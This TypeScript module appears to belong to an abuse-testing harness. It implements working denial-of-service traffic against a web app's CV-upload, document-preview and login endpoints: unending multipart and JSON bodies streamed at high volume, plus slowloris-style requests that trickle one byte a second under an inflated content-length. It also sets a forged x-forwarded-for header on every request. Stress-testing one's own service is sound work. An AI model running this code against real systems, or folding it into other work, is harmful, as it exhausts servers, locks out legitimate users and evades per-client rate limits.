import { once } from 'node:events'
import { type ClientRequest, request } from 'node:http'
import { setTimeout as wait } from 'node:timers/promises'
import type { Abuse, Attack } from './attack.ts'

const boundary = 'endless'
const upload = '/api/ai_cv_parser/guest/analyze/'
const multipart = { 'content-type': `multipart/form-data; boundary=${boundary}` }
const json = { 'content-type': 'application/json' }
const filePart = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="cv.txt"\r\n\r\n`
const fieldPart = `--${boundary}\r\ncontent-disposition: form-data; name="field"\r\n\r\n`
const namePart = `--${boundary}\r\ncontent-disposition: form-data; name="`

/** Request bodies that never end: their paths, headers and first bytes. */
const endless = [
	{ path: upload, headers: multipart, head: fieldPart },
	{ path: upload, headers: multipart, head: namePart },
	{ path: upload, headers: multipart, head: filePart },
	{ path: '/api/typeset/preview/', headers: json, head: '{"document":{"professionalSummary":"' },
	{ path: '/api/auth/login/', headers: json, head: '{"email":"' },
]
const endlessLanes = 8
const slowLanes = 30
/** Together with the lanes about a hundred megabytes a second, as much as a good line carries. */
const piece = Buffer.alloc(256 * 1024, 'a')
const pieceEveryMs = 20

/** Sends fields and bodies that never end, and beside them bodies that come a byte at a time. */
export const endlessBodies: Abuse = () => async (attack) => {
	await Promise.all([
		attack.inLanes(endlessLanes, (round) => sendEndless(attack, round)),
		attack.inLanes(slowLanes, (round) => sendSlowly(attack, round)),
	])
}

async function sendEndless(attack: Attack, round: number): Promise<void> {
	const kind = endless[round % endless.length]
	if (kind === undefined) return
	await sendUntilAnswered(attack, kind, async (sent) => {
		if (!sent.write(piece)) await Promise.race([once(sent, 'drain'), wait(1000)])
		await wait(pieceEveryMs)
	})
	await wait(100)
}

function sendSlowly(attack: Attack, round: number): Promise<void> {
	const kind = endless[round % endless.length]
	if (kind === undefined) return Promise.resolve()
	const headers = { ...kind.headers, 'content-length': '1000000' }
	return sendUntilAnswered(attack, { ...kind, headers }, async (sent) => {
		sent.write('a')
		await wait(1000)
	})
}

type Kind = { path: string; headers: Record<string, string>; head: string }

/** Writes on and on until there is an answer, the connection ends, or the abuse is over. */
async function sendUntilAnswered(
	{ target, signal, count }: Attack,
	{ path, headers, head }: Kind,
	write: (sent: ClientRequest) => Promise<void>,
): Promise<void> {
	const startedAt = performance.now()
	const sent = request(new URL(path, target.url), {
		method: 'POST',
		agent: false,
		headers: { ...headers, 'x-forwarded-for': target.address },
	})
	let answer: number | 'broken' | null = null
	sent.on('response', (response) => {
		answer = response.statusCode ?? 'broken'
		response.resume()
	})
	// Errors after an answer are ignored, because the answer is already known.
	sent.on('error', () => {
		answer ??= 'broken'
	})
	sent.on('close', () => {
		answer ??= 'broken'
	})
	sent.write(head)
	while (answer === null && !signal.aborted) await write(sent).catch(() => wait(20))
	sent.destroy()
	if (answer !== null) count(answer, startedAt)
}
